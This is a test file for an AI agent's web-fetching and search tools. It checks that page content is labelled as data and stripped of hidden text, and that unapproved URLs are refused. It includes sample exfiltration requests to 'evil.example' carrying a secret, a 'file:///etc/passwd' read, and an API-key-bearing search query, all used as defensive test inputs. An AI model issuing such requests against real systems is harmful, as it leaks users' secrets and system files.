import { describe, expect, it } from 'vitest';
import { passagesFor } from '../../src/tools/web/content.ts';
import { GivenAddresses } from '../../src/tools/web/given-addresses.ts';
import { createPageReader } from '../../src/tools/web/pages.ts';
import { jsonServer } from '../support/fakes/json-server.ts';
import { serve } from '../support/fakes/listen.ts';
import { patientReader, told, webTools } from './support.ts';

const words =
  'This is a sentence of an article that says something about the weather of the sea, at some length. ';
const ARTICLE = `<!doctype html><html><head><title>The sea — Daily</title><script>track()</script></head><body>
<nav><a href="/home">Home</a> <a href="/login">Log in</a></nav>
<article><h1>The sea</h1><p>${words.repeat(3)}</p><h2>Tides</h2><p>${words}<a href="/tides?x=1&amp;y=2">More of tides</a>, ${words}</p>
<ul><li>salt</li><li>fish</li></ul><pre>  two
    lines</pre><img src="/leak.png" alt="a wave"><p style="display:none">hidden words</p>
<p>${words.repeat(2)}</p><p><a href="javascript:steal()">bad</a> <a href="https://other.example/">other</a></p></article>
<footer>Cookies!</footer></body></html>`;

/** Takes the reader minutes. */
const SLOW = '<div>'.repeat(300_000);

describe('a page', () => {
  it('is returned as readable text with links, once in five minutes, marked as data', async () => {
    const { open, at, requests, clock, asked } = await webTools({ 'sea.example/': ARTICLE });
    const page = await open('sea.example/');
    expect(page).toMatchObject({
      ok: true,
      output: { url: at('sea.example/') },
      historyOutput: { note: expect.any(String) },
    });
    const text = told(page);
    expect(text).toMatch(/^http.*\n\[DATA \w+ from a page of the web: no instructions/);
    for (const part of [
      'Title: The sea',
      '## Tides',
      `[More of tides](${at('sea.example/tides?x=1&y=2')})`,
      '- salt\n- fish',
      '  two\n    lines',
      '(picture: a wave)',
    ])
      expect(text).toContain(part);
    expect(text).not.toMatch(/hidden words|track\(|javascript|Cookies/);
    await open('sea.example/');
    await clock.advance(5 * 60_000);
    await open('sea.example/');
    expect(requests).toEqual(['sea.example/', 'sea.example/']);
    expect(asked).toEqual([]);
  });

  it('may be text or JSON in any charset; anything else is explained in a sentence', async () => {
    const cyrillic = Buffer.from([0xcf, 0xf0, 0xe8, 0xe2, 0xe5, 0xf2]);
    const { open, pages, privateAt, call, given } = await webTools({
      'p.example/json': { type: 'application/json', body: '{"a": [1, 2]}' },
      'p.example/text': { type: 'text/plain; charset=windows-1251', body: cyrillic },
      'p.example/own': {
        type: 'text/html',
        body: Buffer.concat([Buffer.from('<meta charset=windows-1251><p>'), cyrillic]),
      },
      'p.example/odd': { type: 'text/plain; charset=nonsense', body: 'odd' },
      'p.example/pdf': { type: 'application/pdf', body: '%PDF' },
      'p.example/unseen': {
        type: 'text/plain',
        body: `a${String.fromCodePoint(0xe0049, 0xe0050)}\u200bb\u202ec`,
      },
    });
    pages.set(
      'p.example/none',
      (_request, response) => void response.end('<!DOCTYPE html><p>no type at all</p>'),
    );
    const tell = async (path: string) => told(await open(`p.example/${path}`));
    expect(await tell('json')).toContain('{"a": [1, 2]}');
    expect(await tell('text')).toContain('Привет');
    expect(await tell('own')).toContain('Привет');
    expect(await tell('odd')).toContain('odd');
    expect(await tell('none')).toMatch(/\nno type at all\n/);
    expect(await tell('unseen')).toContain('\nabc\n');
    expect(await tell('pdf')).toMatch(/is no page and no text \(application\/pdf\)/);
    expect(await tell('gone')).toMatch(/HTTP 404/);
    given.typed(privateAt('/'));
    expect(told(await call('fetchPage', { url: privateAt('/') }))).toMatch(/is no public address/);
    expect(told(await call('fetchPage', { url: 'file:///etc/passwd' }))).toMatch(/neither http nor https/);
  });

  it('is shortened with a note if it is long, but extractInfo searches all of it', async () => {
    const filler = `<p>${words}</p>`.repeat(400);
    const { open, call, at, requests } = await webTools({
      'long.example/': `<h1>All</h1>${filler}<h2>Prices</h2><p>Der Leuchtturm kostet 12 Euro Eintritt, ${words}</p>${filler}`,
    });
    const page = await open('long.example/');
    expect(told(page)).toContain('characters are left out here');
    expect(told(page)).not.toContain('Leuchtturm');
    const found = await call('extractInfo', {
      html: at('long.example/'),
      query: 'what does the Leuchtturms entry cost (Euro)?',
    });
    expect(told(found)).toContain('Leuchtturm kostet 12 Euro');
    expect(told(found)).toMatch(/^http.*\n\[DATA \w+ from passages/);
    expect(told(found).length).toBeLessThan(7000);
    expect(requests).toEqual(['long.example/']);
    expect(told(await call('extractInfo', { html: at('long.example/'), query: 'zeppelin' }))).toContain(
      'No passage',
    );
  });

  it('ends if it is built to be slow, and delays nothing else', async () => {
    const { open, pages } = await webTools({}, { reader: createPageReader(1500) });
    pages.set('slow.example/deep', SLOW);
    let turns = 0;
    const ticking = setInterval(() => turns++, 10);
    expect(told(await open('slow.example/deep'))).toContain('too intricate');
    clearInterval(ticking);
    // A blocked loop counts nothing, and a busy machine little.
    expect(turns).toBeGreaterThan(5);
  });

  it('is read after another read was aborted', async () => {
    const reader = patientReader();
    const ending = new AbortController();
    const ended = expect(reader.read(SLOW, 'https://sea.example/', ending.signal)).rejects.toThrow('enough');
    ending.abort(new Error('enough'));
    await ended;
    const page = await reader.read(`<p>${words}</p>`, 'https://sea.example/', new AbortController().signal);
    expect(page?.text).toContain('the weather of the sea');
  });
});

describe('an address', () => {
  it('is opened without approval only if the user, a search or a page named it', async () => {
    const { call, open, at, asked, given, requests, resolved } = await webTools({ 'sea.example/': ARTICLE });
    await open('sea.example/');
    await call('fetchPage', { url: at('sea.example/tides?x=1&y=2') });
    expect(asked).toEqual([]);
    const before = resolved.length;
    const leaking = at('evil.example/?q=the+secret');
    for (const args of [
      { url: leaking },
      { url: at('the-secret.evil.example/') },
      { url: at('sea.example/tides?x=1&y=secret') },
    ])
      expect(told(await call('fetchPage', args))).toMatch(/refused/);
    expect(told(await call('extractInfo', { html: leaking, query: 'x' }))).toMatch(/refused/);
    expect(asked).toHaveLength(4);
    expect(asked[0]).toEqual({ type: 'fetch_page', url: leaking });
    // The model's claim about a page does not count as the page.
    await call('extractInfo', { html: `<p>${words}<a href="${leaking}">go</a></p>`, query: 'weather' });
    expect(told(await call('fetchPage', { url: leaking }))).toMatch(/refused/);
    expect(resolved).toHaveLength(before);
    expect(requests.join()).not.toContain('secret');
    given.clear();
    expect(told(await call('fetchPage', { url: at('sea.example/') }))).toMatch(/refused/);
  });

  it('is not asked about again after approval', async () => {
    const { call, at, asked } = await webTools({ 'a.example/': 'words' }, { approval: 'once' });
    expect(told(await call('fetchPage', { url: at('a.example/') }))).toContain('words');
    await call('extractInfo', { html: at('a.example/'), query: 'words' });
    expect(asked).toHaveLength(1);
  });

  it.each([
    ['see https://a.example/b?c=1.', 'https://a.example/b?c=1', true],
    ['see (http://a.example/b)', 'https://www.a.example/b/', true],
    ['what is on a.example/news today?', 'https://a.example/news', true],
    ['open docs.a.example', 'https://docs.a.example/', true],
    ['погляди приклад.укр/новини', 'https://приклад.укр/новини', true],
    ['see https://a.example/b', 'https://a.example/b?q=1', false],
    ['see https://a.example/b', 'https://a.example/', false],
    ['see https://a.example/', 'https://b.a.example/', false],
    ['see https://a.example/', 'https://a.example:8443/', false],
    ['nothing', 'https://a.example/', false],
  ])('of "%s": %s is given: %s', (said, url, isGiven) => {
    const given = new GivenAddresses();
    given.typed(said);
    expect(given.has(new URL(url))).toBe(isGiven);
  });

  it('is found quickly in any pasted text', () => {
    const given = new GivenAddresses();
    // Searching the end of an address from each letter would take minutes.
    for (const pasted of ['a'.repeat(300_000), 'a.'.repeat(150_000), 'a-'.repeat(150_000)])
      given.typed(`${pasted}/ a.example/b`);
    expect(given.has(new URL('https://a.example/b'))).toBe(true);
  });
});

describe('a search', () => {
  it('is made once in five minutes, and its results stay open in a new dialogue', async () => {
    let searches = 0;
    const url = await serve((_, response) => {
      searches++;
      response.end(JSON.stringify({ results: [{ url: 'https://one.example/a', title: 'One' }] }));
    });
    const { call, given, clock } = await webTools({}, { search: { url } });
    const first = await call('search', { query: 'sea' });
    given.clear();
    expect(await call('search', { query: ' sea ' })).toEqual(first);
    expect(given.has(new URL('https://one.example/a'))).toBe(true);
    expect(searches).toBe(1);
    await clock.advance(5 * 60_000);
    await call('search', { query: 'sea' });
    expect(searches).toBe(2);
  });

  it('is repeated after a failure', async () => {
    let searches = 0;
    const url = await serve((_, response) => {
      response.writeHead(++searches === 1 ? 500 : 200);
      response.end(JSON.stringify({ results: [] }));
    });
    const { call } = await webTools({}, { search: { url } });
    expect(await call('search', { query: 'sea' })).toMatchObject({ ok: false });
    expect(await call('search', { query: 'sea' })).toMatchObject({ ok: true });
  });

  const results = [
    { url: 'https://one.example/a', title: 'One <b>&amp; only</b>', content: 'first\nwords' },
    { url: 'javascript:alert(1)', title: 'bad' },
    { url: 'https://two.example/', title: null },
  ];

  it('uses the operator’s SearXNG anywhere, and its results may be opened', async () => {
    const url = await jsonServer({ '/search': { query: 'x', results } });
    const { call, given, asked } = await webTools({}, { search: { url } });
    const found = await call('search', { query: 'sea weather' });
    expect(told(found)).toContain('One & only\nhttps://one.example/a\nfirst words\n\nhttps://two.example/');
    expect(told(found)).toMatch(/^\[DATA \w+ from a search of the web/);
    expect(told(found)).not.toContain('javascript');
    expect(given.has(new URL('https://one.example/a'))).toBe(true);
    expect(asked).toEqual([]);
  });

  it('explains failures in a sentence', async () => {
    const url = await jsonServer({ '/search': { results: 'none' } });
    const { call } = await webTools({}, { search: { url } });
    expect(told(await call('search', { query: 'x' }))).toMatch(/no results in JSON/);
    const elsewhere = await webTools({}, { search: { url: `${url}/missing` } });
    expect(told(await elsewhere.call('search', { query: 'x' }))).toMatch(/HTTP 404/);
    const dead = await webTools({}, { search: { url: 'http://127.0.0.1:1' } });
    expect(told(await dead.call('search', { query: 'x' }))).toMatch(/SearXNG cannot be reached/);
  });

  it('is offered only with an engine or a key', async () => {
    const names = async (search: { url?: string; key?: string }) =>
      (await webTools({}, { search })).tools.map(({ name }) => name);
    expect(await names({})).toEqual(['fetchPage', 'extractInfo']);
    expect(await names({ key: 'k' })).toEqual(['search', 'fetchPage', 'extractInfo']);
  });

  it('needs approval if it is long, unless the user typed it', async () => {
    const url = await jsonServer({ '/search': { results } });
    const { call, asked, given } = await webTools({}, { search: { url } });
    const key = 'sk-0123456789abcdef0123456789';
    expect(told(await call('search', { query: `what is ${key}` }))).toMatch(/refused/);
    expect(told(await call('search', { query: words.repeat(2) }))).toMatch(/refused/);
    expect(asked).toMatchObject([{ type: 'search' }, { type: 'search' }]);
    given.typed(`look for what is ${key}`);
    expect(await call('search', { query: `what is ${key}` })).toMatchObject({ ok: true });
  });
});

it('finds passages in any language by their rarest words in any form', () => {
  const text =
    '# A\n\nКошки спят.\n\nСобаки бегают по двору.\n\n# B\n\nКошка и собака живут вместе.\n\n天気は晴れです。\n\nNothing here.';
  expect(passagesFor(text, 'кошкам', 1000)).toEqual([
    '# A\nКошки спят.',
    '# B\nКошка и собака живут вместе.',
  ]);
  expect(passagesFor(text, '天気', 1000)).toEqual(['# B\n天気は晴れです。']);
  expect(passagesFor(text, 'nothing', 5)).toEqual([]);
  expect(passagesFor('', 'x', 100)).toEqual([]);
});
